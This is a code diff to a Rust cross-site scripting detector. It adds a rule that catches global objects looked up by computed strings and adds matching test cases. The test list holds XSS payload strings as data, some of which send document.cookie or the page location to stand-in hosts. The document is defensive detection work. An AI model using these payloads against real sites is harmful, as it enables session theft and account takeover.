@@ -101,7 +101,7 @@ impl Xss {
             ),
             Rule::new(
                 &["document", "window", "location", "innerhtml", "cookie"],
-                r"\b(?:document\s*\.\s*(?:cookie|write|writeln|domain|location|body|createelement|getelementby\w+|forms|images|documentelement|queryselector\w*)|window\s*\.\s*(?:location|open|name|eval)|\.\s*(?:innerhtml|outerhtml)\s*=|(?:top|self|parent|frames)\s*\[\s*['`])",
+                r"\b(?:document\s*\.\s*(?:cookie|write|writeln|domain|location|body|createelement|getelementby\w+|forms|images|documentelement|queryselector\w*)|window\s*\.\s*(?:location|open|name|eval)|\.\s*(?:innerhtml|outerhtml)\s*=)",
                 "DOM sink access",
             ),
             // A script element whose `<` and `>` a filter stripped leaves its name glued to
@@ -110,6 +110,12 @@ impl Xss {
                 &["script"],
                 r"script(?:(?:alert|prompt|confirm|eval|settimeout|setinterval|fromcharcode|atob|btoa)\s*(?:\(|`)|(?:document|window)\s*\.\s*(?:cookie|location|write|domain|open|eval))",
                 "script element with its brackets stripped",
+            ),
+            // `top["al"+"ert"]`: a global looked up by a computed string.
+            Rule::new(
+                &["["],
+                r"\b(?:top|self|parent|frames|window|globalthis)\s*\[\s*['`\x22]",
+                "global object sink",
             ),
             Rule::new(
                 &["binding", "behavio", "@import"],
@@ -348,6 +354,8 @@ mod tests {
             "scriptdocument.location='//evil/'+1",
             "<noscript><p title=\"</noscript><img src=x>\">",
             "location=document.cookie",
+            "top[\"al\"+\"ert\"](1)",
+            "window[`ev`+`al`](name)",
             "new Image().src='//e/?c='+document.cookie",
         ] {
             assert!(hit(v), "{v}");
